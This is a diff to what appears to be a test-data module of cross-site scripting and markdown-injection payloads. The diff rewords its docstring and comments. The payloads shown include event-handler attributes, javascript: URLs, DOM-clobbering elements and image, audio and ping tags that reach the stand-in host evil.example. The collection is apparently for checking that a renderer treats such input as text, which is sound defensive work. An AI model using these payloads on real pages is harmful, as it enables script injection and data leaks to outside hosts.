@@ -1,4 +1,4 @@
-"""What has been used to make text run as code, as what it is: lines of text.
+"""Payloads that have been used to make text run as code, one on each line.
 
 Each calls ``alert``, loads something from ``evil.example`` or steers the page elsewhere, if it is
 taken for anything but text.
@@ -114,7 +114,7 @@ PAYLOADS: Final = MappingProxyType(
         "an address with a quote": '[x](https://evil.example/"onmouseover="alert(1)")',
         "an address's title": '[x](https://evil.example/ "x\\" onmouseover=\\"alert(1)")',
         "an attribute list": "[x](https://evil.example/){: onclick=alert(1) style=color:red }",
-        # What is loaded, and where the page goes.
+        # External resources and navigation.
         "an image from elsewhere": f"![x]({EVIL}x.png)",
         "an image of two sizes": f"<img src=x srcset='{EVIL}x.png 2x'>",
         "an image never closed": f"<img src='{EVIL}?",
@@ -138,7 +138,7 @@ PAYLOADS: Final = MappingProxyType(
         "a button": "<button formaction=javascript:alert(1)>x</button>",
         "a ping": f"<a href=https://a.example/ ping={EVIL}>x</a>",
         "a sound": f"<audio src={EVIL}x.mp3 autoplay onerror=alert(1)>",
-        # What stands for something of the page.
+        # Imitations of parts of the page.
         "an id of the page": "<a id=page-content></a><a id=content></a>",
         "a name of the page's object": "<img name=body><form name=documentElement><a id=location>",
         "a list of names": "<a id=x><a id=x name=y href=https://evil.example/>x</a>",
